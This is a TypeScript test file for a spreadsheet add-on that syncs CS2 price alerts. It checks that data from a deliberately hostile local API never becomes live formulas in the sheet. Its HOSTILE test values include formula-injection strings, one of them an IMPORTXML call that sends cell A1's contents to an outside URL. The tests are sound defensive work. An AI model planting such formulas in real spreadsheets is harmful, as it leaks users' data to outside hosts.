import { createServer } from 'node:http';
import { describe, expect, it, onTestFinished } from 'vitest';
import { asiimov, redline, redlineId, typeRows } from './alert-rows.ts';
import { startWorld, testKey, type World } from './harness.ts';

/** Texts that a sheet would take for something else, one per border field. */
const HOSTILE = {
  name: '=IMPORTXML("https://example.com/?"&A1,"//a")',
  phase: '+1+1',
  kind: '-2+3',
  currency: '@SUM(A1)',
  id: "'=1+1",
  reason: '\t=1+1',
  message: '=HYPERLINK("https://example.com","open")',
  eventId: '2026-01-01',
};

const pagination = { limit: 200, offset: 0, total: 1, count: 1, has_more: false };
const item = { item_id: 7, market_hash_name: HOSTILE.name, phase: HOSTILE.phase };
const at = '2026-11-23T12:00:00Z';

const REPLIES: Readonly<Record<string, unknown>> = {
  '/v1/account/alerts': {
    alerts: [
      {
        id: HOSTILE.id,
        kind: HOSTILE.kind,
        threshold_value: '0012.50',
        threshold_currency: HOSTILE.currency,
        is_enabled: true,
        last_triggered_at: at,
        created_at: at,
        updated_at: at,
        item,
      },
    ],
    pagination,
  },
  '/v1/account/alerts/events': {
    events: [
      {
        id: HOSTILE.eventId,
        alert_id: HOSTILE.id,
        kind: HOSTILE.kind,
        item,
        triggered_value: '123456789012345.678901',
        triggered_currency: HOSTILE.currency,
        reason: HOSTILE.reason,
        created_at: at,
      },
    ],
    pagination,
  },
};

/** An API that answers what it is asked with texts that want to be formulas, and the rest with an error that does. */
async function startRogueApi(world: World): Promise<void> {
  const server = createServer((request, response) => {
    const reply = REPLIES[(request.url ?? '').replace(/\?.*/, '')];
    response.writeHead(reply ? 200 : 422, { 'Content-Type': 'application/json' });
    response.end(JSON.stringify(reply ?? { detail: HOSTILE.message }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(async () => {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  });
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  const form = { apiKey: 'sk_any', base: `http://127.0.0.1:${port}/v1` };
  expect(await world.inDialog('openSettings', 'saveSettings', [form])).toMatchObject({ isDone: true });
}

/** Every formula in the spreadsheet, whichever tab it got into. */
const formulas = ({ book }: World) =>
  book
    .tabs()
    .flatMap(({ name }) =>
      book.view(name).flatMap((line) => line.flatMap(({ formula }) => (formula === '' ? [] : [`${name}: ${formula}`]))),
    );

describe('what comes from outside', () => {
  it.each(['en_US', 'de_DE', 'ja_JP'])('stays text in every cell it reaches, in %s', async (locale) => {
    const world = await startWorld({ isBare: true, locale });
    await world.choose('setUpSheet');
    await startRogueApi(world);
    for (const command of ['pullFromCs2cap', 'pollEvents', 'diagnose', 'setUpSheet']) await world.choose(command);
    expect(world.lines('Alerts')).toMatchObject([
      { Item: HOSTILE.name, Phase: HOSTILE.phase, Kind: HOSTILE.kind, Currency: HOSTILE.currency },
    ]);
    expect(world.cell('Alerts', 2, 'Threshold')).toBe(locale === 'de_DE' ? '0012,50' : '0012.50');
    expect(world.lines('Events')).toMatchObject([
      { Item: HOSTILE.name, Kind: HOSTILE.kind, 'Event ID': HOSTILE.eventId, Value: '123456789012345.678901' },
    ]);
    expect(formulas(world)).toEqual([]);
    const [events] = [world.book.values('Events').slice(1)];
    const kinds = new Set(events?.flatMap((line) => line.map((cell) => (cell instanceof Date ? 'time' : typeof cell))));
    expect(kinds).toEqual(new Set(['time', 'string']));
  });

  it.each(['hidden', 'kept'] as const)(
    'comes back as it went in, where a plain-text cell has the apostrophe %s',
    async (quote) => {
      const world = await startWorld({ isBare: true });
      world.google.switches.plainTextQuote = quote;
      await world.choose('setUpSheet');
      await startRogueApi(world);
      await world.choose('pullFromCs2cap');
      await world.choose('pollEvents');
      await world.choose('pullFromCs2cap');
      await world.choose('pollEvents');
      expect(world.lines('Alerts')).toHaveLength(1);
      expect(world.lines('Events')).toHaveLength(1);
    },
  );

  it('is planned the same where a plain-text cell keeps the apostrophe', async () => {
    const runs = [];
    for (const quote of ['hidden', 'kept'] as const) {
      const world = await startWorld();
      world.google.switches.plainTextQuote = quote;
      await typeRows(world, [redline, { ...asiimov, threshold: '12.50' }]);
      await world.choose('syncNow');
      const account = world.cs2cap.account(testKey);
      account.plantAlert({ itemId: redlineId, kind: 'price_above', threshold: '99.5', currency: 'EUR' });
      await world.choose('pullFromCs2cap');
      const before = world.cs2cap.requests.length;
      await world.choose('syncNow');
      const sent = world.cs2cap.requests.slice(before).filter(({ method }) => method !== 'GET');
      const states = world.lines('Alerts').map((line) => line['Status']);
      runs.push({ sent, states, alerts: account.alerts().length });
    }
    expect(runs[0]).toMatchObject({ sent: [], states: ['Armed', 'Armed', 'Elsewhere'], alerts: 3 });
    expect(runs[1]).toEqual(runs[0]);
  });

  it('is no formula in Status either, when it is an error', async () => {
    const world = await startWorld({ isBare: true });
    await world.choose('setUpSheet');
    await startRogueApi(world);
    await world.choose('diagnose');
    expect(
      world
        .lines('Status')
        .map((line) => line['Outcome'])
        .join('\n'),
    ).toContain(HOSTILE.message);
    expect(formulas(world)).toEqual([]);
  });
});
